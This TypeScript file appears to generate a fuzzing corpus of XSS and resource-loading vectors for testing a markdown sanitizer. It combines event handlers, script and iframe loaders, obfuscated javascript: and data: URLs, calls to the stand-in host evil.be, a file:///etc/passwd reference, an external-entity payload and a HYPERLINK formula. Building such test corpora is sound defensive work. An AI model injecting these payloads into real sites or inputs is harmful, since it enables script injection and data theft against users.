import { VECTORS } from "../markdown/vectors.ts";

// What each attack does when it works: the test watches for this call, and for requests to this host.
const call = "alert(1)";
const host = "evil.be";

const events =
  "onload onerror onfocus onclick onmouseover onpointerenter onanimationstart ontoggle onbegin onpageshow onbeforematch onscrollend".split(
    " ",
  );
const elements =
  "img svg body iframe input details video audio marquee math a div style textarea select keygen object form dialog xss".split(
    " ",
  );

/** Ways to write `name=call` inside a tag. */
const writings: readonly ((name: string) => string)[] = [
  (name) => ` ${name}=${call}`,
  (name) => `/${name}=${call}`,
  (name) => `\n${name.toUpperCase()} = "${call}"`,
  (name) => `\u000c${name}='${call}'`,
  (name) => ` x="" ${name}=${call.replace("(", "&lpar;").replace(")", "&#x29;")}`,
  (name) => ` ${name}=\`${call}\``,
];

const handlers = elements.flatMap((element, at) =>
  events.map((event, by) => {
    const write = writings[(at + by) % writings.length];
    return `<${element} src=x autofocus open tabindex=1${write?.(event) ?? ""}>`;
  }),
);

/** Elements and properties that load or run what an address names. */
const loaders: readonly ((url: string) => string)[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x, ${url} 2x" loading=eager>`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<script type=module>import "${url}"</script>`,
  (url) => `<iframe src="${url}" srcdoc="<script>parent.${call}</script>"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<link rel="stylesheet" href="${url}">`,
  (url) => `<link rel="preload" as="script" href="${url}">`,
  (url) => `<link rel="manifest" href="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0; url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<form action="${url}"><input autofocus><button>a</button></form>`,
  (url) => `<button form=_site-search formaction="${url}">a</button>`,
  (url) => `<a href="${url}" ping="${url}">a</a>`,
  (url) => `<style>@import "${url}"; * { background: url(${url}) }</style>`,
  (url) => `<p style="background: url('${url}'); behavior: url(${url}); -moz-binding: url(${url})">a</p>`,
  (url) => `<svg><image href="${url}"/><use xlink:href="${url}"/><feImage href="${url}"/></svg>`,
  (url) =>
    `<svg><a xlink:href="${url}"><rect width=99 height=99 /></a><set attributeName=href to="${url}"/></svg>`,
  (url) => `<svg><style>@import "${url}";</style><script href="${url}"/></svg>`,
  (url) => `<math><maction actiontype="statusline#${url}" xlink:href="${url}">a</maction></math>`,
  (url) => `<video src="${url}" poster="${url}" autoplay><track default src="${url}"></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<table background="${url}"><td background="${url}">a</table>`,
  (url) => `<body background="${url}">`,
  (url) => `<?xml-stylesheet type="text/xsl" href="${url}"?>`,
  (url) => `<!DOCTYPE a [<!ENTITY b SYSTEM "${url}">]><a>&b;</a>`,
  (url) => `![a](${url})`,
  (url) => `![a][${url}]\n\n[${url}]: ${url}`,
  (url) => `[a](${url} "${url}")`,
  (url) => `[a](<${url}>)`,
  (url) => `<${url}>`,
  (url) => `[a]: ${url}\n[a] [a][] ![a]`,
  (url) => `[![a](${url})](${url})`,
  (url) => `[a](variable:${url}) [b](term:${url}) [c](document:${url})`,
  (url) => `| [a](${url}) | ![b](${url}) | ${url} |\n|:--|:-:|--:|\n| <${url}> | <img src="${url}"> |`,
  (url) => `https://a.be/${url} www.a.be?${url} [c ${url}] a@b.be/${url}`,
  (url) => url,
];

const control = [
  "",
  "\u0000",
  "\u0001",
  "\t",
  "\n",
  "\r",
  "\u001b",
  "\u00a0",
  "\u200b",
  "\u202e",
  "\ufeff",
  "&Tab;",
  "&NewLine;",
];

const urls = [
  ...control.flatMap((sign) => [
    `${sign}javascript:${call}`,
    `java${sign}script:${call}`,
    `javascript${sign}:${call}`,
  ]),
  `jAvAsCrIpT:${call}//http://a.be`,
  `javascript&colon;${call}`,
  `&#x6a;avascript:${call}`,
  `javascript:/*--></title></style></script></textarea>*/${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `data:text/javascript,${call}`,
  `data:text/css,@import'//${host}'`,
  `vbscript:msgbox(1)`,
  `blob:https://${host}/a`,
  `filesystem:https://${host}/a`,
  `//${host}/a`,
  `\\\\${host}\\a`,
  `/\\${host}/a`,
  `/\t/${host}/a`,
  `///${host}/a`,
  `http:${host}`,
  `https:/${host}/a.js`,
  `https:\\\\${host}\\a`,
  `http://${host}/a.png?"onerror="${call}`,
  `http://site.test@${host}/`,
  `//${host}\u3002be/`,
  `ftp://${host}/a`,
  `file:///etc/passwd`,
  `view-source:http://${host}`,
  `mailto:a@b.be?subject="><img/src=//${host}>`,
];

const loading = loaders.flatMap((load) => urls.map((url) => load(url)));

/** What ends the element, the attribute, the string or the comment in which a text may stand. */
const enders =
  `</script> </style> </title> </textarea> </noscript> </template> </svg> </math> </dl> </table> </a> </p> --> --!> <!-- ]]> <![CDATA[ " ' \` "> '> \\" \\' \\u0022 \\u003c $\{ {{ \u2028 \u2029 */ // ;} )]} "); '); \\ \\\\" &quot;> &#34;> &gt; %22%3E %3C/script%3E ＂＞ ﹤ \u0000 \ud800`.split(
    " ",
  );
const payloads = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
  `<img src=//${host}/a>`,
  ` onfocus=${call} autofocus x=`,
  `${call};//`,
  `-${call}-`,
  `}</style><script>${call}</script>`,
  `{"@context":"//${host}"}`,
  `=HYPERLINK("http://${host}")`,
];
const breakers = enders.flatMap((end) => payloads.map((payload) => `${end}${payload}`));

/** Brackets, entities and blocks nested and half open, around an attack. */
const wraps: readonly ((inner: string) => string)[] = [
  (inner) => `[[[${inner}](x)](y)](z)`,
  (inner) => `> - 1. > ${inner}`,
  (inner) => `\`\`\`${inner}\n${inner}`,
  (inner) => `***[${inner}](<${inner}> '${inner}')***`,
  (inner) => `<div>\n\n${inner}\n\n</div>`,
  (inner) => `<!-- ${inner} --> ${inner}`,
  (inner) => `\\${inner.split("").join("\\")}`,
  (inner) => inner.replace(/[<>"'&:()]/g, (sign) => `&#${sign.codePointAt(0)};`),
  (inner) => inner.replace(/[<>"'&:()]/g, (sign) => `&#x${sign.codePointAt(0)?.toString(16)}`),
  (inner) => inner.replace(/[<>"']/g, (sign) => `%${sign.codePointAt(0)?.toString(16)}`),
  (inner) => inner.normalize("NFKD").split("").join("\u200d"),
  (inner) => `[${inner}]: /x '${inner}'\n\n[${inner}]`,
];
const wrapped = wraps.flatMap((wrap) => payloads.map((payload) => wrap(payload)));

/** Texts that try to run or load something, on pages, in scripts, styles, attributes and data. */
export const vectors: readonly string[] = [
  ...new Set([...handlers, ...loading, ...breakers, ...wrapped, ...VECTORS]),
];
